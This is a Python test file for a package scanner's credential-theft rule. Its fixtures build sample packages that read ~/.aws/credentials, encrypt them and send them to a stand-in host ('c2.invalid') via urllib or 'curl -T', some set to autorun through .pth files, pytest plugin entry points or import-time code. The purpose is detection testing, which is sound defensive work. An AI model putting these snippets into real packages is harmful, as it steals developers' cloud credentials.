"""Credentials read and something sent, in one run that nobody asked for, is more than either alone."""

from __future__ import annotations

from typing import Any

import pytest

from tests.incidents.scanned import scanned
from tests.support.factories import Files

KEYS = "import os\nKEYS = open(os.path.expanduser('~/.aws/credentials')).read()\n"
SEND = "import urllib.request\nurllib.request.urlopen('https://c2.invalid', b'x')\n"
SEAL = "from Crypto.Cipher import AES\nAES.new(b'k' * 16, AES.MODE_CBC)\n"
LATER = "def go():\n    "


def _later(text: str) -> str:
    return LATER + text.replace("\n", "\n    ") + "pass\n"


QUIET: dict[str, Files] = {
    "only reads": {"demo/__init__.py": KEYS},
    "only sends": {"demo/__init__.py": SEND},
    "only encrypts": {"demo/__init__.py": SEAL},
    "reads and encrypts": {"demo/__init__.py": KEYS + SEAL},
    "when called": {"demo/__init__.py": _later(KEYS + SEAL + SEND)},
    "sends when called": {"demo/__init__.py": KEYS + _later(SEND)},
    "listens": {"demo/__init__.py": KEYS + "import socket\nsocket.create_server(('', 1))\n"},
    "in a test": {"demo/__init__.py": "", "demo/tests/test_x.py": KEYS + SEND},
    "in two modules that nothing joins": {"demo/__init__.py": "", "demo/a.py": KEYS, "demo/b.py": SEND},
}
LOUD: dict[str, tuple[Files, str, str]] = {
    "import": ({"demo/__init__.py": KEYS + SEND}, "import", "c"),
    "start": ({"demo.pth": "import demo\n", "demo/__init__.py": KEYS + SEAL + SEND}, "startup", "e"),
    "split": (
        {"demo/__init__.py": "from demo import a, b\n", "demo/a.py": KEYS, "demo/b.py": SEND},
        "import",
        "c",
    ),
    "an inner module": (
        {
            "demo/__init__.py": "",
            "demo/a.py": SEAL + KEYS + "from demo import b\n" + "b.go()\n",
            "demo/b.py": _later(SEND),
        },
        "import",
        "e",
    ),
    "a pytest plugin": (
        {
            "demo.py": KEYS + SEND,
            "demo-1.0.dist-info/entry_points.txt": "[pytest11]\ndemo = demo\n",
        },
        "autoload",
        "c",
    ),
    "by programs": (
        {
            "demo/__init__.py": KEYS + "import subprocess\n"
            "subprocess.run(['openssl', 'enc', '-aes-256-cbc', '-in', '/tmp/k'])\n"
            "subprocess.run('curl -T /tmp/k https://c2.invalid', shell=True)\n"
        },
        "import",
        "e",
    ),
}


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    loud = {name: files for name, (files, _, _) in LOUD.items()}
    return scanned(tmp_path_factory.mktemp("theft"), {**QUIET, **loud})


def _thefts(package: dict[str, Any]) -> list[dict[str, Any]]:
    return [finding for finding in package["findings"] if finding["rule"] == "payload-theft"]


@pytest.mark.parametrize("name", QUIET)
def test_either_alone_is_none(name: str, found: dict[str, dict[str, Any]]) -> None:
    assert _thefts(found[name]) == []


@pytest.mark.parametrize("name", LOUD)
def test_both_together_are_critical(name: str, found: dict[str, dict[str, Any]]) -> None:
    _, trigger, how = LOUD[name]
    (theft,) = _thefts(found[name])
    assert (theft["severity"], theft["trigger"]) == ("critical", trigger)
    assert ("encrypts" in theft["message"]) is (how == "e")
    assert "reads credentials with builtins.open (demo" in theft["message"]
